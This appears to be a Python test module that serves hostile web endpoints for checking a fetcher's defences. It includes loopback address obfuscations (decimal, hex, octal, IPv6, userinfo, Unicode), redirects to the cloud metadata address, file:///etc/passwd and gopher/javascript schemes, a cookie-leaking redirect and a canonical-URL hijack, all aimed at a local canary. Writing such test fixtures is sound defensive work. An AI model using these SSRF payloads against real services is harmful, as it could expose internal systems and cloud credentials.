"""What leads elsewhere: to the canary, to another scheme, round in a circle, or nowhere."""

from tests.hostile.answers import Asked, Wire, endpoint
from tests.hostile.endpoints.pages import article, list_of

_HOPS = 50
# The canary's address, spelt so that only some readers see it.
FORMS = {
    "plain": "http://127.0.0.2:{port}/",
    "decimal": "http://2130706434:{port}/",
    "hex": "http://0x7f000002:{port}/",
    "hex-parts": "http://0x7f.0x0.0x0.0x2:{port}/",
    "octal": "http://0177.0.0.02:{port}/",
    "short": "http://127.2:{port}/",
    "zero": "http://0:{port}/",
    "mapped": "http://[::ffff:127.0.0.2]:{port}/",
    "loopback6": "http://[::1]:{port}/",
    "dot": "http://127.0.0.2.:{port}/",
    "tab": "http://127.0.0\t.2:{port}/",
    "backslash": "http://example.org\\@127.0.0.2:{port}/",
    "user": "http://example.org@127.0.0.2:{port}/",
    "wide": "http://１２７.０.０.２:{port}/",
    "circled": "http://①②⑦.⓪.⓪.②:{port}/",
    "name": "http://localhost:{port}/",
    "below": "http://canary.localhost:{port}/",
    "no-scheme": "//127.0.0.2:{port}/",
}
METADATA = "http://169.254.169.254/latest/meta-data/"
SCHEMES = {
    "file": "file:///etc/passwd",
    "local": "file://localhost/etc/passwd",
    "data": "data:text/html,<p>stolen</p>",
    "ftp": "ftp://127.0.0.2:{port}/secret",
    "gopher": "gopher://127.0.0.2:{port}/_x",
    "s3": "s3://bucket/key",
    "javascript": "javascript:alert(1)",
}


def _spelt(form: str, asked: Asked) -> str:
    return form.format(port=asked.canary.rpartition(":")[2])


@endpoint("/redirect/canary?status=")
async def to_canary(asked: Asked, wire: Wire) -> None:
    """A redirect (301, 302, 303, 307 or 308) to the canary."""
    await wire.redirect(f"http://{asked.canary}/secret", status=int(asked.query.get("status", "302")))


@endpoint("/redirect/meta")
async def meta(asked: Asked, wire: Wire) -> None:
    """An article whose head sends a browser to the canary (meta refresh), and a Refresh header with it."""
    head = f'<meta http-equiv="refresh" content="0; url=http://{asked.canary}/meta">'
    await wire.page(
        article(asked.site + asked.path, head=head), Refresh=f"0; url=http://{asked.canary}/header"
    )


@endpoint("/redirect/forms?form={form}")
async def forms(asked: Asked, wire: Wire) -> None:
    """A redirect to the canary in another spelling: decimal, hex, octal, short, IPv6, with a user, a tab …"""
    await wire.redirect(_spelt(FORMS[asked.query["form"]], asked).encode().decode("latin-1"))


@endpoint("/redirect/metadata")
async def metadata(_: Asked, wire: Wire) -> None:
    """A redirect to the address at which clouds give out a machine's secrets."""
    await wire.redirect(METADATA)


@endpoint("/redirect/scheme?to={scheme}")
async def scheme(asked: Asked, wire: Wire) -> None:
    """A redirect to file:, data:, ftp:, gopher:, s3: or javascript:."""
    await wire.redirect(_spelt(SCHEMES[asked.query["to"]], asked))


@endpoint("/redirect/to?url={url}")
async def elsewhere(asked: Asked, wire: Wire) -> None:
    """A redirect to any address."""
    await wire.redirect(asked.query["url"])


@endpoint("/redirect/loop")
async def loop(asked: Asked, wire: Wire) -> None:
    """A redirect to itself."""
    await wire.redirect(asked.path)


@endpoint("/redirect/pingpong/{side}")
async def pingpong(asked: Asked, wire: Wire) -> None:
    """A redirect to the other of two pages, and back."""
    await wire.redirect(f"/redirect/pingpong/{'b' if asked.rest == 'a' else 'a'}")


@endpoint("/redirect/chain/{number}")
async def chain(asked: Asked, wire: Wire) -> None:
    """The first of 50 hops; an article stands at their end."""
    number = int(asked.rest)
    await wire.redirect(f"/redirect/chain/{number + 1}" if number < _HOPS else "/article/at-the-end")


@endpoint("/redirect/bad/{how}")
async def bad(asked: Asked, wire: Wire) -> None:
    """A redirect without a Location (none), or with one of 100 KB (long)."""
    if asked.rest == "none":
        await wire.page("moved", status=301)
    else:
        await wire.redirect("/article/" + "x" * 100_000)


@endpoint("/auth/leak")
async def leak(asked: Asked, wire: Wire) -> None:
    """Asks for a password, sets cookies and sends on to the canary: whatever secret follows is its."""
    headers = {"WWW_Authenticate": 'Basic realm="news"', "Set_Cookie": "session=S3CRET; Path=/"}
    await wire.page("", status=302, Location=f"http://{asked.canary}/stolen", **headers)


@endpoint("/auth/cookie")
async def cookie(asked: Asked, wire: Wire) -> None:
    """An article that sets a cookie."""
    await wire.page(article(asked.site + asked.path), Set_Cookie="session=S3CRET; Path=/")


@endpoint("/links/evil?pages={paths}")
async def evil_links(asked: Asked, wire: Wire) -> None:
    """A list whose links, base, pager, pictures and feeds lie at the canary, between sane links."""
    away = f"http://{asked.canary}"
    more = (
        f"<base href='{away}/'><link rel='alternate' type='application/rss+xml' href='{away}/rss'>"
        f"<a rel='next' href='{away}/list?page=2'>Next</a><img src='{away}/pixel'>"
        f"<iframe src='{away}/frame'></iframe><script src='{away}/script'></script>"
    )
    sane = [f"{asked.here}{path}" for path in asked.query.get("pages", "").split()]
    links = [f"{away}/article", "file:///etc/passwd", "//" + asked.canary + "/x", METADATA, *sane]
    await wire.page(list_of(links, more=more))


@endpoint("/canonical/evil")
async def canonical(asked: Asked, wire: Wire) -> None:
    """An article that calls another site's page its canonical address, by a link, a header and og:url."""
    victim = "http://victim.example/real"
    head = f"<link rel='canonical' href='{victim}'><meta property='og:url' content='{victim}'>"
    page = article(asked.site + asked.path, head=head)
    await wire.page(page, Link=f"<{victim}>; rel=canonical")
